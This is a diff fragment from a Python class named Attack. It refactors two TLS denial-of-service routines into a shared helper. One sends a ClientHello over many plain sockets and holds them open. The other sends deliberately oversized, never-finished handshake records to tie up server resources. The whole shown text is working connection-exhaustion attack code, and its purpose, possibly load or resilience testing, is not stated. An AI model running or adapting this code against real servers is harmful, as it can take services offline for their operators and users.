@@ -172,21 +172,15 @@ class Attack:
             CONTEXT.wrap_bio(incoming, outgoing).do_handshake()
         except ssl.SSLWantReadError:
             pass
-        hello = outgoing.read()
-        for _ in range(self.count):
-            try:
-                sock = self.plain()
-                sock.sendall(hello)
-                self.held.append(sock)
-            except OSError:
-                pass
-        return {"held": len(self.held)}
+        return self._begin_and_leave(outgoing.read())
 
     def long_hellos(self):
         """First messages of TLS that are nearly as long as one may be, and never whole."""
         hello = b"\x01" + (131_000).to_bytes(3, "big") + b"\x03\x03" + b"x" * 120_000
         pieces = (hello[at:at + 16_000] for at in range(0, len(hello), 16_000))
-        begun = b"".join(b"\x16\x03\x01" + len(piece).to_bytes(2, "big") + piece for piece in pieces)
+        return self._begin_and_leave(b"".join(b"\x16\x03\x01" + len(piece).to_bytes(2, "big") + piece for piece in pieces))
+
+    def _begin_and_leave(self, begun: bytes):
         for _ in range(self.count):
             try:
                 sock = self.plain()
